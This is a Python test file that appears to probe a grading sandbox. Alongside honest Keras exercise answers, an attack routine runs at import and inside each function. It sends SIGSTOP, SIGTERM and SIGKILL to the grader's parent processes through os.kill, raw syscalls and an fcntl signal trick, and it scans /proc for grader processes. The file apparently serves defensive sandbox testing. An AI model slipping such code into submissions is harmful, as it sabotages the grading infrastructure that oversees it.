# expect: practice1=10 practice2=10 practice3=10
# Attack on the grader and classmates: signals. At import and again inside each practice it tries
# SIGSTOP, SIGTERM and SIGKILL on its parent (the grader's fork server) and on the parent's parent
# (the grading process) with os.kill, os.killpg and raw kill/tgkill/rt_sigqueueinfo syscalls
# through ctypes, and SIGKILL delivery through fcntl(F_SETOWN/F_SETSIG) on a pipe. It probes with
# signal 0 (permission check only, harmless) whether it can reach those, kill(-1) (everything it
# may signal) and every grader process in /proc; any success raises "SIGNALLED: ..." at import, so
# nothing would be defined. A real signal that got through would kill or hang the grading, which
# the test's exit code and report count would show.
# All three practices are answered honestly: 10 + 10 + 10 (practice 3: 7 directories: 2 + 4 x 1.5 + 2 x 1).
import csv
import ctypes
import fcntl
import os
import platform
import signal
from pathlib import Path

import keras
from keras import layers


def _listdir(path):
    # the sandbox may refuse to list /proc at all: then there is nothing to attack
    try:
        return os.listdir(path)
    except OSError:
        return []


libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SYS_KILL, SYS_TGKILL, SYS_RT_SIGQUEUEINFO = 62, 234, 129  # x86_64 numbers
RAW = platform.machine() == "x86_64"
F_SETSIG = 10


def _parents():
    pids = {os.getppid()}
    try:
        with open(f"/proc/{os.getppid()}/stat") as handle:
            pids.add(int(handle.read().rsplit(")", 1)[1].split()[1]))
    except (OSError, ValueError, IndexError):
        pass
    return [p for p in pids if p > 1]


def _grader_pids():
    """Every visible process of a grader (its command line names graders) but this one."""
    found = []
    for name in _listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as handle:
                    if b"graders" in handle.read():
                        found.append(int(name))
            except OSError:
                pass
    return found


def attack():
    # Signal 0 goes through the same permission checks as a real signal but does nothing: it is
    # how this file finds out, harmlessly, whether it could signal a process outside itself.
    for pid in {*_parents(), *_grader_pids(), -1}:
        try:
            os.kill(pid, 0)
            reached.append(pid)
        except OSError:
            pass
        if RAW and libc.syscall(SYS_KILL, pid, 0) == 0:
            reached.append(pid)
    # The real thing, aimed only at the grader's own processes above this one.
    for pid in _parents():
        for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            calls = [lambda: os.kill(pid, sig), lambda: os.killpg(pid, sig)]
            if RAW:
                calls += [lambda: libc.syscall(SYS_KILL, pid, sig), lambda: libc.syscall(SYS_TGKILL, pid, pid, sig),
                          lambda: libc.syscall(SYS_RT_SIGQUEUEINFO, pid, sig, None)]
            for call in calls:
                try:
                    call()
                except (OSError, ValueError):
                    pass
    reader, writer = os.pipe()
    for pid in _parents():
        try:
            fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
            fcntl.fcntl(reader, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            os.write(writer, b"x")
        except OSError:
            pass
    os.close(reader)
    os.close(writer)
    if reached:
        raise RuntimeError(f"SIGNALLED: could signal {sorted(set(reached))[:5]}")


reached = []
attack()


def build_sequential_model():
    attack()
    return keras.Sequential([
        keras.Input(shape=(28, 28)),
        layers.Flatten(),
        layers.Dense(128, activation="relu"),
        layers.Dropout(0.2),
        layers.Dense(64, activation="relu"),
        layers.Dense(10, activation="softmax"),
    ])


def build_residual_model():
    attack()
    inputs = keras.Input(shape=(48, 48, 3))
    x = layers.Conv2D(3, 3, padding="same", activation="relu")(inputs)
    x = layers.MaxPool2D(2, 2)(x)
    x = layers.Add()([x, layers.AvgPool2D(2, 2)(inputs)])
    x = layers.GlobalAveragePooling2D()(x)
    return keras.Model(inputs, layers.Dense(10, activation="softmax")(x))


def find_best_checkpoint(checkpoint_dir):
    attack()
    folder = Path(checkpoint_dir)
    epochs = {p: int(p.name.split("-", 1)[0]) for p in folder.iterdir() if p.suffix in (".keras", ".h5")}
    with open(folder / "history.csv", newline="") as handle:
        val_loss = {int(row["epoch"]) + 1: float(row["val_loss"]) for row in csv.DictReader(handle)}
    return str(min(epochs, key=lambda p: val_loss[epochs[p]]))
